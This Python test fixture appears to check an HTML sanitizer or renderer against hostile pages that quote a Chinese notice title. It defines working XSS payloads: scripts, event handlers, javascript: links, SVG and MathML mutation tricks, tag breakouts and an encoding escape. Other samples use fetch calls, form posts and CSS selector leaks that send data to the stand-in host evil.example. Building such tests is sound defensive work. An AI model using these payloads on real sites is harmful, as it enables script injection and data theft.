"""Pages that try to run, load, submit, hide or lead away; each carries the words that are quoted from it."""

from __future__ import annotations

WORDS = "<h1>关于印发<b>办法</b>的通知</h1>"
OUT = "http://evil.example/"

HOSTILE: dict[str, str | bytes] = {
    "script": f"{WORDS}<script>document.title='ran';fetch('{OUT}')</script><script src={OUT}x.js></script>",
    "handlers": f"<body onload=\"document.title='ran'\">{WORDS}<img src=x onerror=\"document.title='ran'\">"
    "<p onmouseover=alert(1) onfocus=alert(1) tabindex=0 autofocus>x</p><details open ontoggle=alert(1)>y</details>",
    "javascript_links": f"{WORDS}<a href=\"javascript:document.title='ran'\">a</a>"
    f"<a href='&#106;avascript:alert(1)'>b</a><a href='{OUT}' ping='{OUT}p'>c</a><area href='{OUT}'>",
    "svg": f"{WORDS}<svg onload=alert(1)><script>document.title='ran'</script><use href='{OUT}#x'/>"
    f"<image href='{OUT}i.png'/><foreignObject><iframe src='{OUT}'></iframe></foreignObject></svg>",
    "math": f'{WORDS}<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "refresh": f"<meta http-equiv=refresh content='0;url={OUT}'>{WORDS}"
    "<meta http-equiv='Content-Security-Policy' content=''>",
    "base": f"<base href='{OUT}' target=_top>{WORDS}<a href=x>x</a><img src=y.png>",
    "styles": f"<style>@import url({OUT}a.css);body{{background:url({OUT}b.png)}}mark{{display:none}}"
    f"input[value^=a]{{background:url({OUT}c)}}@font-face{{font-family:x;src:url({OUT}f)}}</style>"
    f"<link rel=stylesheet href={OUT}d.css><link rel=prefetch href={OUT}e>{WORDS}"
    f"<div style=\"position:fixed;inset:0;background:url('{OUT}g.png')\">盖住</div>",
    "frames": f"{WORDS}<iframe src='{OUT}'></iframe>"
    "<iframe srcdoc=\"<script>parent.document.title='ran'</script>\"></iframe>"
    f"<object data='{OUT}o'></object><embed src='{OUT}e'><portal src='{OUT}p'></portal>",
    "forms": f"{WORDS}<form action='{OUT}' method=post><input name=a value=b><button formaction='{OUT}q'>提交</button>"
    f"<input type=image src='{OUT}i'></form><isindex action='{OUT}'>",
    "media": f"{WORDS}<img srcset='{OUT}1 1x' src='{OUT}2'><video src='{OUT}3' poster='{OUT}4'></video>"
    f"<audio autoplay src='{OUT}5'></audio><picture><source srcset='{OUT}6'></picture><table background='{OUT}7'><tr><td>x",
    "breaking_out": f"{WORDS}\"></iframe></pre></style></title></textarea><script>document.title='ran'</script>'>-->]]>",
    "template": f"{WORDS}<template><script>document.title='ran'</script></template><noscript><p title=\"</noscript>"
    '<img src=x onerror=alert(1)>"></noscript><xmp><script>alert(1)</script></xmp>',
    "own_marks": f"<mark id=q1>假的标记</mark><a id=q1 name=q1>假</a>{WORDS}<p id=q2 class=zwgk-head>假</p>",
    "nul_and_bidi": f"\x00<scr\x00ipt>alert(1)</script>{WORDS}<p>\u202e\u2066txt.exe\u2069\u200b\ufeff</p>\x00".encode(),
    "half_surrogates": b"<p>\xed\xa0\x80\xff\xfe</p>" + WORDS.encode(),
    "gbk_escape": b'<meta charset=gbk><p title="\x81" onclick=alert(1) x="">'
    + WORDS.encode("gb18030"),
}
"""By name; `document.title` becomes "ran" where something runs."""
